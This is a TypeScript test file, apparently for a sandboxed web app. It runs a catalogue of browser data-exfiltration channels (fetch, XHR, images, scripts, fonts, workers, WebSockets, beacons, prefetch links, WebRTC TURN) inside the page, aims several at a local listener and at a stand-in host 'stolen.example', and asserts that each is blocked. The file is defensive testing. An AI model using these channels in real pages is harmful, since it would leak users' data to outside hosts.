import { expect, test } from 'vitest'
import { eavesdropper, openApp, origin } from './page-under-attack.ts'

/** Each way a page can send something away. Runs inside the page; resolves to what came of it. */
const attacks: Record<string, (url: string) => Promise<string>> = {
  fetch: url =>
    fetch(url, { mode: 'no-cors' }).then(
      () => 'sent',
      () => 'blocked',
    ),
  'fetch with a body': url =>
    fetch(url, { method: 'POST', body: 'names' }).then(
      () => 'sent',
      () => 'blocked',
    ),
  XMLHttpRequest: url =>
    new Promise(resolve => {
      const request = new XMLHttpRequest()
      request.onload = () => resolve('sent')
      request.onerror = () => resolve('blocked')
      request.open('GET', url)
      request.send()
    }),
  image: url =>
    new Promise(resolve => {
      const image = new Image()
      image.onload = () => resolve('sent')
      image.onerror = () => resolve('blocked')
      image.src = `${url}dot.png`
    }),
  script: url =>
    new Promise(resolve => {
      const script = document.createElement('script')
      script.onload = () => resolve('sent')
      script.onerror = () => resolve('blocked')
      script.src = `${url}x.js`
      document.head.append(script)
    }),
  stylesheet: url =>
    new Promise(resolve => {
      const link = document.createElement('link')
      link.onload = () => resolve('sent')
      link.onerror = () => resolve('blocked')
      link.rel = 'stylesheet'
      link.href = `${url}x.css`
      document.head.append(link)
    }),
  font: url =>
    new FontFace('stolen', `url(${url}x.woff2)`).load().then(
      () => 'sent',
      () => 'blocked',
    ),
  'module script': url =>
    new Promise(resolve => {
      const script = document.createElement('script')
      script.type = 'module'
      script.onload = () => resolve('sent')
      script.onerror = () => resolve('blocked')
      script.src = `${url}x.js`
      document.head.append(script)
    }),
  worker: url =>
    new Promise(resolve => {
      try {
        const worker = new Worker(URL.createObjectURL(new Blob([`importScripts('${url}x.js'); postMessage('sent')`])))
        worker.onmessage = () => resolve('sent')
        worker.onerror = () => resolve('blocked')
      } catch {
        resolve('blocked')
      }
    }),
  EventSource: url =>
    new Promise(resolve => {
      const source = new EventSource(url)
      source.onopen = () => resolve('sent')
      source.onerror = () => resolve('blocked')
    }),
  WebSocket: url =>
    new Promise(resolve => {
      try {
        const socket = new WebSocket(url.replace('http', 'ws'))
        socket.onopen = () => resolve('sent')
        socket.onerror = () => resolve('blocked')
      } catch {
        resolve('blocked')
      }
    }),
  iframe: url =>
    new Promise(resolve => {
      const frame = document.createElement('iframe')
      frame.src = url
      document.body.append(frame)
      setTimeout(() => {
        frame.remove()
        resolve('blocked')
      }, 500)
    }),
  beacon: async url => {
    navigator.sendBeacon(url, 'names')
    await new Promise(resolve => setTimeout(resolve, 300))
    return 'blocked'
  },
  'link prefetch': async url => {
    for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload']) {
      const link = document.createElement('link')
      link.rel = rel
      link.href = url
      document.head.append(link)
    }
    await new Promise(resolve => setTimeout(resolve, 500))
    return 'blocked'
  },
  'WebRTC over TCP': async url => {
    const connection = new RTCPeerConnection({
      iceServers: [{ urls: `turn:127.0.0.1:${new URL(url).port}?transport=tcp`, username: 'u', credential: 'c' }],
    })
    connection.createDataChannel('names')
    await connection.setLocalDescription(await connection.createOffer())
    await new Promise(resolve => setTimeout(resolve, 700))
    connection.close()
    return 'blocked'
  },
}

test('no way of sending leaves the page', async () => {
  const { page } = await openApp()
  const listener = await eavesdropper()
  for (const [name, attack] of Object.entries(attacks)) {
    expect(await page.evaluate(attack, listener.url), name).toBe('blocked')
    expect(listener.visits(), `${name} reached another program`).toBe(0)
  }
})

test('a name is not even looked up', async () => {
  const { page } = await openApp()
  for (const name of ['fetch', 'image', 'WebSocket'] as const) {
    const attack = attacks[name]
    if (!attack) throw new Error(name)
    expect(await page.evaluate(attack, 'http://stolen.example/'), name).toBe('blocked')
  }
})

test('WebRTC finds no address of this machine to give away', async () => {
  const { page } = await openApp()
  const candidates = await page.evaluate(async () => {
    const found: string[] = []
    const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:3478' }] })
    connection.onicecandidate = event => {
      if (event.candidate) found.push(event.candidate.candidate)
    }
    connection.createDataChannel('names')
    await connection.setLocalDescription(await connection.createOffer())
    await new Promise(resolve => setTimeout(resolve, 700))
    connection.close()
    return found
  })
  expect(candidates).toEqual([])
})

test('no service worker stays', async () => {
  const { page } = await openApp()
  const workers = await page.evaluate(async () => {
    await navigator.serviceWorker.register('/assets/sw.js').catch(() => undefined)
    return (await navigator.serviceWorker.getRegistrations()).length
  })
  expect(workers).toBe(0)
})

test('the page asks for nothing but its own files', async () => {
  const { page } = await openApp()
  const asked: string[] = []
  page.on('request', request => asked.push(request.url()))
  await page.reload()
  await page.waitForTimeout(500)
  expect(asked.length).toBeGreaterThan(0)
  expect(asked.filter(url => !url.startsWith(`${origin}/`) && !url.startsWith('data:') && !url.startsWith('blob:'))).toEqual([])
})
